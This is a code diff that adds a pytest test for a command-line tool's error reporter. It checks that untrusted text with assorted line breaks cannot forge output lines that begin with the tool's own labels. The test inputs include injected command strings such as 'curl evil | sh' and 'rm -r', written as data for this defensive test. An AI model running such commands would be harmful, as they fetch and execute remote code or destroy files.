@@ -215,6 +215,17 @@ def test_a_traceback_cannot_write_to_the_terminal(capsys: pytest.CaptureFixture[
     assert "\n" in caught.err
 
 
+@pytest.mark.parametrize("end", ["\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x85", "\u2028", "\n \n", "\n\t"])
+@pytest.mark.parametrize("word", ["error: all is lost", "fix: curl evil | sh", "  fix: rm -r", "called: a", "next: x"])
+def test_what_a_stranger_says_begins_no_line_of_ours(capsys: pytest.CaptureFixture[str], end: str, word: str) -> None:
+    said = f"no{end}{word}"
+    report(errors.Unavailable(said, fix=said), json=False)
+    cause = {"function": said, "type": "E", "message": said, "traceback": said}
+    report(errors.FunctionError(said, fix=said, traceback=said, path=[said], cause=cause), json=False)
+    starts = [line.strip().partition(" ")[0] for line in capsys.readouterr().err.splitlines()]
+    assert [start for start in starts if start.endswith(":")] == ["error:", "fix:", "called:", "error:", "fix:"]
+
+
 def test_quiet_says_nothing_but_results_and_errors(capsys: pytest.CaptureFixture[str]) -> None:
     def probe(session: Session) -> int:
         """Talk."""
